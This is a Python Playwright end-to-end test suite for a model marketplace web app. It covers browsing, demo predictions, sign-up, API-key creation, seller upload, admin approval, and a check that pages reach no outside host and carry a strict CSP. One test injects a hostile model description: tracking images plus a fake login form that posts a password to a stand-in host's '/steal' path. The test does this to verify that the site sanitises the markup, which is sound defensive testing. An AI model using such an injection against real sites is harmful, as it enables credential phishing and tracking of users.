"""A newcomer, a seller and an admin in a real browser against a real `aimarket up`.

Screenshots of every page land in artifacts/browser/ (kept by CI as test artifacts).
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Page, expect

from storefront.demo import DEMOS
from storefront.demo_tasks import TASK_DEMOS
from tests.e2e.test_journey import running

pytestmark = pytest.mark.browser
SHOTS = Path(__file__).resolve().parents[2] / "artifacts" / "browser"
BIN = Path(sys.executable).parent / "aimarket"
WAIT_MS = 30_000
# the demo catalog: the scikit-learn models and the task models whose packages are installed
CATALOG = len(DEMOS) + sum(build() is not None for build in TASK_DEMOS.values())


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    data = tmp_path_factory.mktemp("browser")
    with running(data, admin_password="admin-pass-1") as (url, _):
        yield url, data


@pytest.fixture
def pages(browser, server):
    """New pages (each its own cookie jar); fails the test if any page left this host."""
    url, _ = server
    contexts, hosts = [], set()

    def new() -> Page:
        ctx = browser.new_context(base_url=url, viewport={"width": 1280, "height": 900})
        ctx.on("request", lambda r: hosts.add(urlparse(r.url).hostname or r.url[:5]))
        contexts.append(ctx)
        page = ctx.new_page()
        page.set_default_timeout(WAIT_MS)
        return page

    yield new
    for ctx in contexts:
        ctx.close()
    assert hosts <= {"127.0.0.1", "data:", "blob:"}, f"pages reached other hosts: {hosts}"


def shot(page: Page, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)


def test_newcomer_browses_tries_a_model_signs_up_and_creates_a_key(pages) -> None:
    page = pages()
    page.goto("/")
    expect(page.locator(".card")).to_have_count(CATALOG)
    shot(page, "01-catalog")
    page.get_by_role("search").get_by_placeholder("Search models").fill("iris")
    page.keyboard.press("Enter")
    expect(page.locator(".card")).to_have_count(1)
    shot(page, "02-search")
    page.get_by_role("link", name="Iris species").click()
    expect(page.get_by_role("heading", name="Iris species")).to_be_visible()
    page.locator("#try").scroll_into_view_if_needed()
    demo = page.frame_locator("iframe.demo")
    demo.get_by_role("button", name="Predict").click()  # the form holds a setosa flower
    expect(demo.locator("#demo-output [data-testid=label-output-value]")).to_have_text("setosa")
    expect(demo.locator("#demo-remaining")).to_contain_text("free demo calls left today")
    shot(page, "03-model-page-demo")

    page.get_by_role("link", name="Get an API key").click()  # -> log in, or sign up
    expect(page).to_have_url(re.compile(r"/login\?next=/account"))
    page.get_by_role("main").get_by_role("link", name="Sign up").click()
    page.get_by_label("E-mail").fill("newcomer@example.com")
    page.get_by_label("Password").fill("newcomer-pass")
    shot(page, "04-signup")
    page.get_by_role("button", name="Sign up").click()
    expect(page.get_by_role("heading", name="Your API keys, credits and usage")).to_be_visible()
    page.get_by_label("Name").fill("my app")
    page.get_by_role("button", name="Create key").click()
    expect(page.locator("#new-key")).to_contain_text("amk_")
    shot(page, "05-key-created")
    page.get_by_role("link", name="Done: back to your keys").click()
    expect(page.locator("#keys")).to_contain_text("my app")
    shot(page, "06-buyer-dashboard")


def test_seller_uploads_and_admin_approves_into_the_catalog(pages, server) -> None:
    _, data = server
    files = data / "upload"
    subprocess.run([str(BIN), "example", "iris", "--out-dir", str(files), "--title",
                    "Browser iris"], check=True, capture_output=True)
    seller = pages()
    seller.goto("/signup?role=seller")
    seller.get_by_label("E-mail").fill("seller@example.com")
    seller.get_by_label("Password").fill("seller-pass")
    seller.get_by_role("button", name="Sign up").click()
    expect(seller.get_by_role("heading", name="Your models")).to_be_visible()
    seller.locator("input[name=model]").set_input_files(str(files / "iris.onnx"))
    seller.locator("input[name=manifest]").set_input_files(str(files / "iris.yaml"))
    seller.get_by_label("I hold the rights").check()
    shot(seller, "07-seller-upload-form")
    seller.get_by_role("button", name="Upload").click()
    expect(seller.get_by_role("status")).to_contain_text("Uploaded browser-iris version 1")
    expect(seller.locator("td.status-pending_review")).to_have_count(1)
    shot(seller, "08-seller-dashboard")

    admin = pages()
    admin.goto("/admin")
    admin.get_by_label("E-mail").fill("admin@example.com")
    admin.get_by_label("Password").fill("admin-pass-1")
    admin.get_by_role("button", name="Log in").click()
    card = admin.locator("#review-browser-iris-1")
    expect(card).to_contain_text("by seller@example.com · license MIT")
    shot(admin, "09-admin-queue")
    card.get_by_label("Reason").fill("checked by hand: the seller's own retraining")
    card.get_by_role("button", name="Approve").click()
    expect(admin.get_by_role("status")).to_contain_text("Approved browser-iris version 1")
    shot(admin, "10-admin-approved")

    visitor = pages()
    visitor.goto("/?q=browser")
    expect(visitor.get_by_role("link", name="Browser iris")).to_be_visible()
    shot(visitor, "11-catalog-new-model")
    seller.reload()
    expect(seller.locator("td.status-live")).to_have_count(1)


def test_a_sketched_digit_is_classified(pages) -> None:
    page = pages()
    page.goto("/try/handwritten-digits/")
    page.get_by_role("tab", name="Draw").click()
    sketch = page.locator("#demo-sketch")
    # a visitor draws at once: the page picks the brush (no "select the draw tool" first)
    expect(sketch.get_by_text("select the draw tool to start")).to_have_count(0)
    box = sketch.locator("canvas").first.bounding_box()
    assert box is not None
    x, top = box["x"] + box["width"] / 2, box["y"] + box["height"] * 0.2
    page.mouse.move(x, top)
    page.mouse.down()
    for i in range(1, 21):  # a vertical stroke: a "1"
        page.mouse.move(x, top + i * box["height"] * 0.03)
    page.mouse.up()
    page.locator("#demo-run-sketch").click()
    expect(page.locator("#demo-output [data-testid=label-output-value]")).to_have_text("1")
    expect(page.locator("#demo-remaining")).to_contain_text("free demo calls left today")
    shot(page, "12-demo-sketch")


HOSTILE = ('Reads flowers. <img src="http://203.0.113.9/x.png"> '
           '<form action="http://203.0.113.9/steal"><input type="password" name="pw">'
           '<button>Log in</button></form> ![pixel](http://203.0.113.9/y.png)')


def test_a_hostile_description_loads_nothing_and_every_page_has_a_csp(pages, server) -> None:
    import httpx
    import yaml

    url, data = server
    files = data / "hostile"
    subprocess.run([str(BIN), "example", "iris", "--out-dir", str(files), "--title",
                    "Hostile iris"], check=True, capture_output=True)
    manifest = yaml.safe_load((files / "iris.yaml").read_text())
    manifest["description"] = HOSTILE
    with httpx.Client(base_url=url, timeout=60) as api:
        seller = {"email": "hostile@example.com", "password": "hostile-pass", "role": "seller"}
        assert api.post("/v1/accounts", json=seller).status_code == 201
        token = api.post("/v1/auth/token", data={"username": seller["email"],
                                                 "password": seller["password"]}).json()
        r = api.post("/v1/models", headers={"Authorization": f"Bearer {token['access_token']}"},
                     data={"attest_rights": "true", "license": "MIT"},
                     files={"model": ("iris.onnx", (files / "iris.onnx").read_bytes()),
                            "manifest": ("iris.yaml", yaml.safe_dump(manifest))})
        assert r.status_code == 201, r.text
        slug = r.json()["slug"]
        admin = api.post("/v1/auth/token", data={"username": "admin@example.com",
                                                 "password": "admin-pass-1"}).json()
        r = api.post(f"/v1/admin/models/{slug}/approve", json={"reason": "test"},
                     headers={"Authorization": f"Bearer {admin['access_token']}"})
        assert r.status_code == 200, r.text

    page = pages()  # the fixture fails the test if any page reached another host
    csp = {}
    for path in ("/", f"/models/{slug}", f"/try/{slug}/"):
        response = page.goto(path)
        assert response is not None
        csp[path] = response.headers.get("content-security-policy", "")
    page.goto(f"/models/{slug}")
    expect(page.locator(".description")).to_contain_text("Reads flowers.")
    expect(page.locator(".description img, .description form, .description input")
           ).to_have_count(0)
    demo = page.frame_locator("iframe.demo")
    expect(demo.get_by_text("Reads flowers.")).to_be_visible()
    expect(demo.locator(".demo-intro img, .demo-intro form, .demo-intro input")).to_have_count(0)
    demo.get_by_role("button", name="Predict").click()  # the demo works under its CSP
    expect(demo.locator("#demo-output [data-testid=label-output-value]")).to_have_text("setosa")
    shot(page, "13-hostile-description")
    page.goto("/login?next=/seller")
    page.get_by_label("E-mail").fill("hostile@example.com")
    page.get_by_label("Password").fill("hostile-pass")
    with page.expect_response(lambda r: r.url.endswith("/seller")) as seller_page:
        page.get_by_role("button", name="Log in").click()
    csp["/seller"] = seller_page.value.headers.get("content-security-policy", "")
    expect(page.get_by_role("heading", name="Your models")).to_be_visible()
    for path, policy in csp.items():
        assert "default-src 'self'" in policy and "http:" not in policy, (path, policy)
